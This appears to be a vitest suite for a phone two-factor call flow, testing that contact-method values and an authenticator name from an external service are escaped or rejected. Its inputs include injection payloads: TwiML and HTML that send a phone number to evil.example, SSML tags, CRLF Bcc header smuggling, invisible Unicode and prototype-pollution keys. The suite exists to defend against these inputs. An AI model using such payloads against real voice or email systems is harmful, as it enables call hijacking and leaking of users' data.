/** What a contact-methods service may answer under external codes, where no address of ours is sent to (G33 to G39). */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Caller } from '../support/caller.ts';
import { contactMethods } from '../support/contact-methods.ts';
import { httpStub, servicesAt, type StubServer } from '../support/stub-server.ts';
import { World } from '../support/world.ts';

const NUMBER = '12025550156';
const CARD = '4111111111111111';
const NAME = '</Say><Redirect>https://evil.example/</Redirect> {code} <break time="9s"/> &amp; "App"';

let methods = '';
let stub: StubServer;
let world: World;
let accounts = 8500;

beforeAll(async () => {
  stub = await httpStub((response, _body, { url = '' }) => {
    response.end(
      url === '/methods'
        ? contactMethods(methods)
        : '<sendAuthenticationCode><status>success</status></sendAuthenticationCode>',
    );
  });
  world = await World.open({
    settings: {
      ...servicesAt(stub),
    },
    edit: {
      'callflows/two-factor.yaml': [
        ['made-by: internal', 'made-by: external'],
        ['authenticator-name: Google Authenticator', `authenticator-name: ${JSON.stringify(NAME.slice(0, 64))}`],
      ],
    },
  });
});
afterAll(async () => {
  await world.close();
  await stub.close();
});
beforeEach(() => {
  accounts += 1;
});

async function calls(): Promise<Caller> {
  return world.caller().dials('two-factor', { AccountNumber: String(accounts) });
}

function escaped(value: string): string {
  return value.replaceAll(/[^\w @]/gu, (character) => `&#${character.codePointAt(0)};`);
}

describe('G37 G38: the value of a method, whatever it is', () => {
  it.each([
    ['a number behind an at sign', `x@+${NUMBER}`],
    ['a card number', `x@${CARD}.example`],
    ['a sentence', `x@your code is ${CARD}`],
    ['TwiML', `x@</Say></Gather><Redirect>https://evil.example/${NUMBER}</Redirect>`],
    ['SSML', `x@<break time="9s"/>${NUMBER}`],
    ['ICU MessageFormat', `x@{code} {n, plural, other {#}} '{' <digits>${NUMBER}</digits>`],
    ['HTML', `x@<img src=//evil.example/${NUMBER}>`],
    ['line breaks', `ana@example.test\r\nBcc: ${NUMBER}`],
    ['turned and invisible characters', `ana@\u202eexample.test\u200b${NUMBER}`],
    ['a line separator of Unicode', `ana@example.test\u2028${NUMBER}`],
    ['10 kB', `x@${NUMBER.repeat(900)}`],
  ])('%s: the method is offered without it, and nothing of it is said, logged or kept', async (_what, value) => {
    methods = `<method name="email" value="${escaped(value)}"/>`;
    const caller = await calls();
    expect(caller.heard).toContain('We emailed a code.');
    expect(caller.verbs.map(({ verb }) => verb)).toEqual(['gather', 'gather', 'redirect']);
    expect(caller.body).not.toMatch(/evil|4111|2025|Bcc/);
    expect(await world.leaks([{ code: NUMBER, to: CARD, report: value.slice(0, 254) }])).toEqual([]);
  });
});

describe('G36: the list of methods', () => {
  it('given twice: the first counts, and each is offered once', async () => {
    methods =
      '<method name="email" value="ana@example.test"/><method name="EMAIL" value="eve@evil.example"/><method name="sms"/><method name="SMS"/>';
    const caller = await calls();
    expect(caller.heard.match(/press 1/g)).toHaveLength(1);
    expect(caller.heard).toContain('starting with A, at example.test, press 1. For a text message, press 2.');
    expect(caller.heard).not.toContain('evil');
  });

  it('over several lists is one list', async () => {
    methods = '<method name="email"/></methods><methods><method name="sms"/>';
    expect((await calls()).heard).toContain('For an email, press 1. For a text message, press 2.');
  });

  it.each([
    ['thousands of them', '<method name="email"/>'.repeat(2_000)],
    ['within each other', `${'<method name="email">'.repeat(10)}${'</method>'.repeat(10)}`],
  ])('D6: %s: the service has failed', async (_what, listed) => {
    methods = listed;
    expect((await world.counts(await calls())).exit).toBe('error');
  });

  it.each(['__proto__', 'constructor', 'toString', 'еmail', 'email ', 'e\u200bmail', 'email,sms', ''])(
    'G50 D6: a method named %j is email or is none',
    async (name) => {
      methods = `<method name="${name}" value="ana@example.test"/>`;
      const caller = await calls();
      if (name.trim() === 'email') expect(caller.heard).toContain('We emailed a code');
      else expect((await world.counts(caller)).exit).toBe('agent');
    },
  );
});

describe('G58: the name of the authenticator', () => {
  it('is words and never markup or a template, whatever it is', async () => {
    methods = '<method name="email"/><method name="authenticator"/>';
    const caller = await calls();
    expect(caller.heard).toContain(`To use ${NAME.slice(0, 64)}, press 2.`);
    expect(caller.verbs.some(({ verb }) => verb === 'redirect')).toBe(true);
    expect(caller.body).not.toContain('<Redirect>https://evil.example/');
    expect(caller.body).toContain('&lt;/Say&gt;&lt;Redirect&gt;');
  });
});
